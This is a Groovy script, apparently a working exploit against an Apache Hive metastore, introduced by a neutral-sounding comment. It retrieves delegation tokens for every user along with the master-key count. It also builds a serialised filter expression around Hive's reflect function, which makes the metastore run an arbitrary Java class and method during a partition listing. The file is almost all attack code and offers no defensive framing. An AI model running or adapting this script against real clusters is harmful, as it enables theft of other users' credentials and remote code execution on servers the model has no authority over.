// What a client of the metastore may ask for beside tables: `token` gets a delegation token of the
// caller's, `tokens` lists everybody's, `run DATABASE TABLE CLASS METHOD WORD...` has a method run there
// as part of a query's condition. Groovy is among Hive's own jars.
import org.apache.hadoop.hive.conf.HiveConf
import org.apache.hadoop.hive.metastore.HiveMetaStoreClient
import org.apache.hadoop.hive.metastore.security.DelegationTokenIdentifier
import org.apache.hadoop.hive.metastore.security.TokenStoreDelegationTokenSecretManager
import org.apache.hadoop.hive.ql.exec.SerializationUtilities
import org.apache.hadoop.hive.ql.plan.ExprNodeColumnDesc
import org.apache.hadoop.hive.ql.plan.ExprNodeConstantDesc
import org.apache.hadoop.hive.ql.plan.ExprNodeGenericFuncDesc
import org.apache.hadoop.hive.ql.udf.generic.GenericUDFOPEqual
import org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect
import static org.apache.hadoop.hive.serde2.typeinfo.TypeInfoFactory.booleanTypeInfo
import static org.apache.hadoop.hive.serde2.typeinfo.TypeInfoFactory.stringTypeInfo

def client = new HiveMetaStoreClient(new HiveConf())
if (args[0] == 'token') {
    println "got ${client.getDelegationToken(args[1], args[1]).length()}"
} else if (args[0] == 'tokens') {
    println "keys ${client.masterKeys.length}"
    client.allTokenIdentifiers.each {
        def token = new DelegationTokenIdentifier()
        TokenStoreDelegationTokenSecretManager.decodeWritable(token, it)
        println "token of ${token.user.shortUserName} ${client.getToken(it).length()}"
    }
} else {
    def words = args.drop(3).collect { new ExprNodeConstantDesc(stringTypeInfo, it) }
    def call = new ExprNodeGenericFuncDesc(stringTypeInfo, new GenericUDFReflect(), 'reflect', words)
    def day = new ExprNodeColumnDesc(stringTypeInfo, 'day', null, true)
    def same = new ExprNodeGenericFuncDesc(booleanTypeInfo, new GenericUDFOPEqual(), '=', [call, day])
    def bytes = SerializationUtilities.serializeObjectWithTypeInformation(same)
    println "unknown ${client.listPartitionsByExpr(args[1], args[2], bytes, null, (short) -1, [])}"
}
